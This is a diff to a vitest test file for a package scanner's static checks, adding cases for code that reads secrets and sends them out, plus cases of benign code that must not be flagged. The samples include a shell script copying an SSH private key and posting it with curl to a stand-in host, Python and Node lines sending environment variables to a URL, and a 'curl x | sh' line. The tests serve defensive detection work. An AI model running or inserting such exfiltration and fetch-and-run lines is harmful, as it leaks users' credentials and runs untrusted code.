@@ -1,4 +1,4 @@
-import { expect, test } from "vitest";
+import { describe, expect, test } from "vitest";
 import { bySeverity } from "@/lib/packages/finding";
 import { checkFile } from "@/lib/packages/static-checks";
 import { adversarialFragments } from "./adversarial";
@@ -198,4 +198,27 @@ test("a finding of high severity stays when harmless ones fill the list", async 
   ]);
   const endless = await check("curl x | sh\n".repeat(3) + noise(900).toString("base64"));
   expect(bySeverity(endless).map(({ severity }) => severity)).toEqual(["high", "high", "high", "medium"]);
+});
+
+describe("code that reads secrets and can send", () => {
+  const rulesOf = async (path: string, text: string) => {
+    const { findings } = await checkFile({ path, content: Buffer.from(text), isWhole: true });
+    return findings.map(({ rule, severity, line }) => [rule, severity, line]);
+  };
+
+  test.each([
+    ["a.py", "import os\nstate = dict(os.environ)\nurllib.request.urlopen(Request(url, state))\n", 2],
+    ["a.sh", "#!/bin/sh\ncat ~/.ssh/id_ed25519 > /tmp/x\ncurl -d @/tmp/x https://x.example\n", 2],
+    ["run", "#!/usr/bin/env node\nfetch(url, { body: JSON.stringify(process.env) });\n", 2],
+  ])("%s", async (path, text, line) => {
+    expect(await rulesOf(path, text)).toEqual([["secrets_and_network", "high", line]]);
+  });
+
+  test.each([
+    ["a key of its own service", "a.py", "requests.post(url, headers={'x': os.environ['API_KEY']})"],
+    ["no network", "a.py", "subprocess.run(cmd, env=dict(os.environ))"],
+    ["a document", "setup.md", "Put the key into ~/.ssh/config and run curl https://x.example."],
+  ])("%s is left alone", async (_, path, text) => {
+    expect(await rulesOf(path, text)).toEqual([]);
+  });
 });
